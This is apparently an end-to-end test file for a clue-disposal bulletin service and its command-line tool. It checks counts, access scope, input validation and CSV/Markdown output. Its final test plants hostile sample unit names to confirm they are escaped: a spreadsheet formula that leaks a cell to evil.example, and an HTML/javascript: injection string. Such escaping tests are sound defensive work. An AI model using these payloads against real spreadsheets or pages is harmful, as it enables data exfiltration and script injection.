"""The monthly bulletin (通报, StatsService.GetBulletin, issue 14) end to end.

A generated dataset with known counts: clues of G1, G2 and X1 go through a random mix of
decisions (every disposal kind, checks closed by a finding, filings approved, cases concluded
and transferred), G3 decides nothing; rectification items are recorded and some verified.
The expected figures are computed here from the calls made, independently of the server,
and compared with the bulletin of the current month (UTC+08:00) for every unit, as the
AUDITOR, a room and a group see it. A second clued whose clock runs two months ahead shows
every unit at zero, with the streak of months each has held it; cluectl prints the same
bulletin as a table, CSV, JSON and Markdown. Bad input of every kind is refused. The ledger
figures follow the items' audit events, not the stamps of their rows.
"""

import csv
import io
import json
import os
import random
import sys
import time

import grpc

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402
from harness import expect_status, new_request_id  # noqa: E402
import world  # noqa: E402

S = harness.stubs()
pb = S.clue_pb2
st = S.stats_pb2
rp = S.rectification_pb2
cm = S.common_pb2
Code = grpc.StatusCode
DAY_MS = 86400000
KINDS = ["PRELIMINARY_CHECK", "TALK_OR_LETTER_INQUIRY", "NO_FURTHER_ACTION", "SHELVED", "FINDING", "SANCTION"]
DISPOSAL = {"TALK_OR_LETTER_INQUIRY": pb.DISPOSAL_TALK_OR_LETTER_INQUIRY,
            "NO_FURTHER_ACTION": pb.DISPOSAL_NO_FURTHER_ACTION, "SHELVED": pb.DISPOSAL_SHELVED}


def month_of(ms):
    t = time.gmtime(ms / 1000 + 8 * 3600)
    return f"{t.tm_year:04d}-{t.tm_mon:02d}"


def month_add(m, k):
    y, mo = int(m[:4]), int(m[5:])
    i = y * 12 + mo - 1 + k
    return f"{i // 12:04d}-{i % 12 + 1:02d}"


class Ctx:
    pass


def setup():
    c = Ctx()
    c.pg = harness.Postgres.get()
    c.dbname = c.pg.new_database("bulletin")
    c.url = c.pg.url(c.dbname)
    c.srv = harness.Clued(c.url).start()
    c.w = world.build(c.srv)
    c.month = month_of(time.time() * 1000)
    return c


def teardown(c):
    c.w.close()
    c.srv.stop()


def expected_zero():
    return {"received": 0, "disposed": 0, "filed": 0, "transferred": 0, "overdue": 0, "found": 0,
            "verified": 0, "rect_overdue": 0, **{k: 0 for k in KINDS}}


def move(u, x, target, **details):
    return u.clue.RequestTransition(pb.RequestTransitionRequest(
        clue_id=x.id, expected_version=x.version, target=target, reason="r",
        details=pb.TransitionDetails(**details), request_id=new_request_id()), timeout=20)


def approve(reviewer, prop):
    return reviewer.clue.ReviewProposal(pb.ReviewProposalRequest(
        proposal_id=prop.id, approve=True, comment="同意", request_id=new_request_id()), timeout=20).clue


def generate(c):
    """Random decisions on each unit's clues; returns the expected figures per unit code."""
    w = c.w
    rnd = random.Random(1411)
    exp = {code: expected_zero() for code in ("G1", "G2", "G3", "X1")}
    for code in ("G1", "G2", "X1"):
        unit = w.units[code]
        reviewer_unit = w.units[world.REVIEWERS[code]]
        for _ in range(rnd.randint(5, 8)):
            x = unit.member.clue.SubmitClue(pb.SubmitClueRequest(
                request_id=new_request_id(), title="批量线索", summary="s",
                source=pb.SOURCE_CHANNEL_LETTER_VISIT_REPORT, subject=pb.SubjectPerson(name="某"),
                host_unit="某单位"), timeout=20)
            e = exp[code]
            e["received"] += 1
            path = rnd.choice(["none", "talk", "noact", "shelve", "check", "finding", "sanction", "transfer"])
            if path == "none":
                continue
            if path in ("talk", "noact", "shelve"):
                kind = {"talk": "TALK_OR_LETTER_INQUIRY", "noact": "NO_FURTHER_ACTION", "shelve": "SHELVED"}[path]
                move(unit.leader, x, cm.CLUE_STATE_CLOSED, disposal=DISPOSAL[kind])
                e[kind] += 1
                e["disposed"] += 1
                continue
            x = move(unit.leader, x, cm.CLUE_STATE_PRELIMINARY_CHECK).clue
            e["PRELIMINARY_CHECK"] += 1
            e["disposed"] += 1
            if path == "check":
                continue
            if path == "finding":
                move(unit.leader, x, cm.CLUE_STATE_CLOSED, finding="查无实据")
                e["FINDING"] += 1
                e["disposed"] += 1
                continue
            named = reviewer_unit.id if unit.kind != "GROUP" else 0
            prop = move(unit.leader, x, cm.CLUE_STATE_FILED, reviewer_unit_id=named).proposal
            approve(reviewer_unit.leader, prop)
            # A room reviewing a region's clue no longer sees it once decided: read it as the owner.
            x = unit.leader.clue.GetClue(pb.GetClueRequest(clue_id=x.id), timeout=20)
            e["filed"] += 1
            e["disposed"] += 1
            if path == "sanction":
                move(unit.leader, x, cm.CLUE_STATE_CLOSED, sanction_kind="警告", persons_disciplined=1)
                e["SANCTION"] += 1
                e["disposed"] += 1
            else:
                prop = move(unit.leader, x, cm.CLUE_STATE_TRANSFERRED_TO_JUDICIAL, receiving_organ="检察院",
                            reviewer_unit_id=named).proposal
                approve(reviewer_unit.leader, prop)
                e["transferred"] += 1
                e["disposed"] += 1
    # G3 receives clues but decides nothing.
    for _ in range(2):
        w.G3.member.clue.SubmitClue(pb.SubmitClueRequest(
            request_id=new_request_id(), title="未处置", summary="s", source=pb.SOURCE_CHANNEL_LETTER_VISIT_REPORT,
            subject=pb.SubjectPerson(name="某"), host_unit="某单位"), timeout=20)
        exp["G3"]["received"] += 1
    # Rectification items: G1 records three and verifies one; X1 records one.
    now = int(time.time() * 1000)
    for code, n, verified in (("G1", 3, 1), ("X1", 1, 0)):
        u = w.units[code]
        host = "市发展改革委" if code == "G1" else "某县"
        for i in range(n):
            it = u.leader.rect.CreateItem(rp.CreateItemRequest(
                host_unit=host, description="问题", category="c", source=rp.RECTIFICATION_SOURCE_SUPERVISION,
                deadline_ms=now + 20 * DAY_MS, request_id=new_request_id()), timeout=20)
            exp[code]["found"] += 1
            if i < verified:
                for fn, req in ((u.member.rect.RecordPlan, rp.RecordPlanRequest(plan="p")),
                                (u.member.rect.Submit, rp.SubmitRequest(evidence="e")),
                                (u.leader.rect.Verify, rp.VerifyRequest())):
                    req.item_id, req.expected_version, req.request_id = it.id, it.version, new_request_id()
                    it = fn(req, timeout=20)
                exp[code]["verified"] += 1
    return exp


def rows(user, month, unit_ids=(), url_stub=None):
    stub = url_stub or user.stats
    r = stub.GetBulletin(st.GetBulletinRequest(month=month, unit_ids=list(unit_ids)), timeout=30)
    return r, {u.unit_code: u for u in r.units}


def figures(u):
    k = {d.disposal: d.count for d in u.disposed_by_kind}
    return {"received": u.received, "disposed": u.disposed, "filed": u.filed,
            "transferred": u.transferred_to_judicial, "overdue": u.overdue_now, "found": u.rectification_found,
            "verified": u.rectification_verified, "rect_overdue": u.rectification_overdue,
            **{x: k.get(x, -1) for x in KINDS}}


def test_generated_dataset(c):
    w = c.w
    c.exp = exp = generate(c)
    r, got = rows(w.auditor, c.month)
    assert r.month == c.month and r.to_ms > r.from_ms
    # Every GROUP and REGION, no ROOM, no ADMIN unit.
    assert set(got) == {"G1", "G2", "G3", "X1"}, set(got)
    assert [u.unit_id for u in r.units] == sorted(u.unit_id for u in r.units)
    for code, e in exp.items():
        assert figures(got[code]) == e, (code, figures(got[code]), e)
        assert [d.disposal for d in got[code].disposed_by_kind] == KINDS
        # The parts add up to the whole.
        assert sum(e[k] for k in KINDS) + e["filed"] + e["transferred"] == e["disposed"]
    assert got["G3"].zero_disposal and got["G3"].zero_disposal_months == 1
    for code in ("G1", "G2", "X1"):
        assert got[code].zero_disposal == (exp[code]["disposed"] == 0)
    # Scope: R1 sees its groups G1 and G2; G3 its own row only; a filter outside is refused.
    _, mine = rows(w.R1.member, c.month)
    assert set(mine) == {"G1", "G2"}
    _, mine = rows(w.G3.leader, c.month)
    assert set(mine) == {"G3"} and figures(mine["G3"]) == exp["G3"]
    expect_status(Code.PERMISSION_DENIED, rows, w.G3.leader, c.month, [w.G1.id])
    expect_status(Code.INVALID_ARGUMENT, rows, w.auditor, c.month, [w.R1.id], details_has=("GROUP",))
    _, one = rows(w.auditor, c.month, [w.X1.id, w.X1.id])
    assert set(one) == {"X1"}


def test_zero_disposal_streak(c):
    """Two months on (a clued whose clock runs ahead): nobody decided anything in either month;
    G3, which decided nothing this month either, has held zero for three months, the others two."""
    w = c.w
    later = harness.Clued(c.url, args=["--test-clock-offset-ms", str(62 * DAY_MS)]).start(migrate=False)
    try:
        ch = grpc.intercept_channel(grpc.insecure_channel(later.addr), world._Auth(w.auditor.token))
        stub = S.stats_pb2_grpc.StatsServiceStub(ch)
        month = month_add(c.month, 2)
        if month_of(time.time() * 1000 + 62 * DAY_MS) != month:  # 62 days may span three month ends
            month = month_of(time.time() * 1000 + 62 * DAY_MS)
        steps = (int(month[:4]) * 12 + int(month[5:])) - (int(c.month[:4]) * 12 + int(c.month[5:]))
        _, got = rows(None, month, url_stub=stub)
        for code in ("G1", "G2", "X1"):
            want = steps + (1 if c.exp[code]["disposed"] == 0 else 0)
            assert got[code].zero_disposal and got[code].zero_disposal_months == want, (code, got[code])
            assert got[code].received == 0 and got[code].disposed == 0
        assert got["G3"].zero_disposal_months == steps + 1
        # Deadlines of 20 days have passed by then: G1's two open items are overdue, its verified one not.
        assert got["G1"].rectification_overdue == 2 and got["X1"].rectification_overdue == 1
        # The month just before this one: the same streak less one.
        _, prev = rows(None, month_add(month, -1), url_stub=stub)
        assert prev["G3"].zero_disposal_months == steps
        ch.close()
    finally:
        later.stop()


def test_bad_input(c):
    w = c.w
    for m, hint in (("", "required"), ("2026-13", "YYYY-MM"), ("2026-1", "YYYY-MM"), ("1999-12", "YYYY-MM"),
                    ("2026/11", "YYYY-MM"), ("abcd-ef", "YYYY-MM"), (month_add(c.month, 1), "not begun"),
                    ("9999-12", "not begun")):
        expect_status(Code.INVALID_ARGUMENT, rows, w.auditor, m, details_has=(hint,))
    expect_status(Code.INVALID_ARGUMENT, rows, w.auditor, c.month, [0], details_has=("unit_ids",))
    expect_status(Code.INVALID_ARGUMENT, rows, w.auditor, c.month, [-4])
    expect_status(Code.INVALID_ARGUMENT, rows, w.auditor, c.month, list(range(1, 1002)))
    expect_status(Code.NOT_FOUND, rows, w.auditor, c.month, [987654321])
    expect_status(Code.PERMISSION_DENIED, rows, w.G1.member, c.month, [987654321])
    expect_status(Code.INVALID_ARGUMENT, rows, w.auditor, c.month, [w.admin_unit.id])
    # Still serving.
    assert rows(w.auditor, c.month)[0].month == c.month


def test_cluectl(c):
    w = c.w
    env = {"CLUED_SERVER": c.srv.addr, "CLUED_TOKEN": w.auditor.token}
    r = harness.cluectl("stats", "bulletin", "--month", c.month, env=env, check=0)
    assert "Bulletin " + c.month in r.stdout and "G3" in r.stdout and "yes (1 mo)" in r.stdout, r.stdout
    r = harness.cluectl("stats", "bulletin", "--month", c.month, "--csv", env=env, check=0)
    rows_ = list(csv.DictReader(io.StringIO(r.stdout)))
    by = {x["unit_code"]: x for x in rows_}
    assert set(by) == {"G1", "G2", "G3", "X1"}
    for code, e in c.exp.items():
        assert int(by[code]["received"]) == e["received"] and int(by[code]["disposed"]) == e["disposed"]
        assert int(by[code]["disposed_SHELVED"]) == e["SHELVED"]
        assert int(by[code]["rectification_found"]) == e["found"]
    # Booleans as stats --csv writes them.
    assert by["G3"]["zero_disposal"] == "yes" and by["G3"]["zero_disposal_months"] == "1"
    assert {by[u]["zero_disposal"] for u in ("G1", "G2", "X1")} <= {"yes", "no"}
    r = harness.cluectl("--json", "stats", "bulletin", "--month", c.month, "--unit", str(w.G1.id), env=env, check=0)
    j = json.loads(r.stdout)
    assert j["month"] == c.month and len(j["units"]) == 1 and j["units"][0].get("unit_code", j["units"][0].get("unitCode")) == "G1", j
    r = harness.cluectl("stats", "bulletin", "--month", c.month, "--markdown", env=env, check=0)
    assert r.stdout.startswith(f"## {c.month} 线索处置情况通报") and "| 单位 |" in r.stdout
    # A GFM table: the delimiter row and every row have as many cells as the header.
    table = [ln for ln in r.stdout.splitlines() if ln.startswith("|")]
    cells = [len(ln.strip("|").split("|")) for ln in table]
    assert len(table) == 2 + 4 and set(cells) == {16}, (cells, table[:2])
    assert all(x in ("---", "---:") for x in table[1].strip("|").split("|")), table[1]
    assert "零通报单位" in r.stdout and "连续 1 个月" in r.stdout, r.stdout
    # A month that is no month is a usage error; whether one has begun is the server's to say.
    r = harness.cluectl("stats", "bulletin", "--month", "2026-13", env=env, check=2)
    assert "--month: '2026-13' is not a month YYYY-MM" in r.stderr, r.stderr
    r = harness.cluectl("stats", "bulletin", "--month", month_add(c.month, 1), env=env, check=1)
    assert "INVALID_ARGUMENT" in r.stderr and "has not begun" in r.stderr, r.stderr
    r = harness.cluectl("stats", "bulletin", "--month", c.month, "--csv", "--markdown", env=env, check=2)
    r = harness.cluectl("stats", "bulletin", "--help", env=env, check=0)
    assert "--markdown" in r.stdout
    # The statistics command itself still works beside its new sub-command.
    now = int(time.time())
    r = harness.cluectl("stats", "--from", time.strftime("%Y-%m-%d", time.gmtime(now - 86400)),
                        "--to", time.strftime("%Y-%m-%d", time.gmtime(now + 86400)), env=env, check=0)


def test_ledger_figures_follow_the_events(c):
    """The items recorded and verified in a month are counted from the ledger's audit events
    (rect.create, rect.verify), as the clue figures are, not from the items' created_at and
    verified_at: a database superuser who moves both 40 days back, into another month, moves
    no figure of either month, for the AUDITOR or for the unit's own leader."""
    w = c.w
    before = month_of(time.time() * 1000 - 40 * DAY_MS)
    it = w.G2.leader.rect.CreateItem(rp.CreateItemRequest(
        host_unit="市交通运输局", description="问题", category="c", source=rp.RECTIFICATION_SOURCE_SUPERVISION,
        deadline_ms=int(time.time() * 1000) + 20 * DAY_MS, request_id=new_request_id()), timeout=20)
    for fn, req in ((w.G2.member.rect.RecordPlan, rp.RecordPlanRequest(plan="p")),
                    (w.G2.member.rect.Submit, rp.SubmitRequest(evidence="e")),
                    (w.G2.leader.rect.Verify, rp.VerifyRequest())):
        req.item_id, req.expected_version, req.request_id = it.id, it.version, new_request_id()
        it = fn(req, timeout=20)
    c.exp["G2"]["found"] += 1
    c.exp["G2"]["verified"] += 1

    def ledger():
        out = {}
        for who in (w.auditor, w.G2.leader):
            for m in (c.month, before):
                u = rows(who, m, [w.G2.id])[1]["G2"]
                out[(who.name, m)] = (u.rectification_found, u.rectification_verified, u.rectification_overdue)
        return out

    want = ledger()
    assert want[(w.auditor.name, c.month)] == (c.exp["G2"]["found"], c.exp["G2"]["verified"], 0), want
    assert want[(w.auditor.name, before)] == (0, 0, 0), want
    db = c.pg.connect(c.dbname)
    try:
        with db.cursor() as cur:
            cur.execute("BEGIN")
            cur.execute("SET LOCAL session_replication_role = replica")
            cur.execute("UPDATE rect_items SET created_at = created_at - interval '40 days',"
                        " updated_at = updated_at - interval '40 days',"
                        " verified_at = verified_at - interval '40 days' WHERE id = %s", (it.id,))
            assert cur.rowcount == 1
            cur.execute("COMMIT")
    finally:
        db.close()
    got = w.G2.leader.rect.GetItem(rp.GetItemRequest(item_id=it.id), timeout=20)
    assert it.created_at_ms - got.created_at_ms == 40 * DAY_MS, (it.created_at_ms, got.created_at_ms)
    assert it.verified_at_ms - got.verified_at_ms == 40 * DAY_MS, (it.verified_at_ms, got.verified_at_ms)
    assert ledger() == want, (ledger(), want)


def test_cluectl_names_are_text(c):
    """Unit names that a spreadsheet would run (= + - @ first) get a leading quote in --csv;
    in --markdown, HTML and Markdown in a name are escaped so it reads as written (no image,
    no javascript: link, no emphasis, no extra cell). Adds units: runs last."""
    w = c.w
    env = {"CLUED_SERVER": c.srv.addr, "CLUED_TOKEN": w.auditor.token}
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
    markup = r"伪造 | 9 <img src=x onerror=alert(1)> [点我](javascript:alert(1)) **粗** `码` _i_ #h !x ~s~ a & b \ c"
    escaped = (r"伪造 \| 9 &lt;img src=x onerror=alert\(1\)&gt; \[点我\]\(javascript:alert\(1\)\) "
               r"\*\*粗\*\* \`码\` \_i\_ \#h \!x \~s\~ a &amp; b \\ c")
    ids = {}
    for code, name in (("FQ1", formula), ("FQ2", "-2+3"), ("MQ1", markup)):
        ids[code] = w.admin.admin.CreateUnit(S.admin_pb2.CreateUnitRequest(
            kind=cm.UNIT_KIND_REGION, code=code, name=name), timeout=10).id
    r = harness.cluectl("stats", "bulletin", "--month", c.month, "--csv", env=env, check=0)
    by = {x["unit_code"]: x for x in csv.DictReader(io.StringIO(r.stdout))}
    assert by["FQ1"]["unit_name"] == "'" + formula and by["FQ2"]["unit_name"] == "'-2+3", by["FQ1"]
    assert by["MQ1"]["unit_name"] == markup and by["G1"]["unit_name"] == "group G1", by["MQ1"]
    assert by["FQ1"]["month"] == c.month and by["FQ1"]["unit_id"] == str(ids["FQ1"]), by["FQ1"]
    assert by["FQ1"]["received"] == "0" and by["FQ1"]["zero_disposal"] == "yes", by["FQ1"]
    r = harness.cluectl("stats", "bulletin", "--month", c.month, "--markdown", env=env, check=0)
    row = [ln for ln in r.stdout.splitlines() if "(MQ1)" in ln]
    assert row == [f"| {escaped} (MQ1) | 0 | 0 |" + " 0 |" * 12 + " **是** |"], row
    assert f"- {escaped}，连续 1 个月" in r.stdout.splitlines(), r.stdout
    assert "<img" not in r.stdout and "](javascript" not in r.stdout, r.stdout
    assert r'| =HYPERLINK\("http://evil.example/?leak="&amp;A1,"点击查看"\) (FQ1) |' in r.stdout, r.stdout


if __name__ == "__main__":
    harness.run_tests(dict(globals()), setup, teardown)
